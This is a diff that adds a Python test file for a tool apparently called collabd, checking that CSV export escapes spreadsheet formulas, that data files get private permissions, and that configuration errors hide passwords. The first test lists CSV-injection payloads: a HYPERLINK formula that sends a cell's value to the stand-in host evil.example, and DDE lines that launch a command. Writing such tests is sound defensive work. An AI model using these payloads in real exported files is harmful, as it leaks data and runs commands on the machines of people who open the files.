@@ -1,0 +1,56 @@
+"""Issue 15, secrets and files: what collabd writes to disk and prints keeps secrets secret,
+and what it exports cannot run in a spreadsheet. On SQLite and PostgreSQL."""
+
+from __future__ import annotations
+
+import csv
+import io
+import os
+import stat
+from pathlib import Path
+
+from tests.conftest import Cli
+
+
+def test_csv_export_never_writes_a_formula(demo_ledger: Cli):
+    lures = [
+        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+    ]
+    for lure in lures:
+        demo_ledger.ok("items", "add", "--collab", "v2-launch", lure, "--owner", "李娜")
+    exported = demo_ledger.ok("export", "--format", "csv")
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    for lure in lures:
+        assert "'" + lure in cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+
+
+def test_the_data_directory_and_ledger_are_private_whatever_the_umask(cli: Cli, tmp_path: Path):
+    old = os.umask(0o022)
+    try:
+        cli.ok("people", "list")
+    finally:
+        os.umask(old)
+    data = tmp_path / "data"
+    assert stat.S_IMODE(data.stat().st_mode) == 0o700
+    ledger = data / "collabd.sqlite3"
+    if ledger.exists():  # the SQLite run; PostgreSQL keeps its files itself
+        assert stat.S_IMODE(ledger.stat().st_mode) == 0o600
+
+
+def test_a_config_error_never_prints_a_password(tmp_path: Path, capsys):
+    from daemon.cli.main import main
+
+    config = tmp_path / "collabd.toml"
+    config.write_text(
+        '[store]\nurl = "mysql://collabd:s3cret-db-pw@db.example.com/collabd"\n'
+        '[mail.smtp]\npassword = ["s3cret-smtp-pw"]\n',
+        encoding="utf-8",
+    )
+    assert main(["--config", str(config), "people", "list"]) == 78
+    err = capsys.readouterr().err
+    assert "store.url" in err and "mail.smtp.password" in err
+    assert "s3cret" not in err
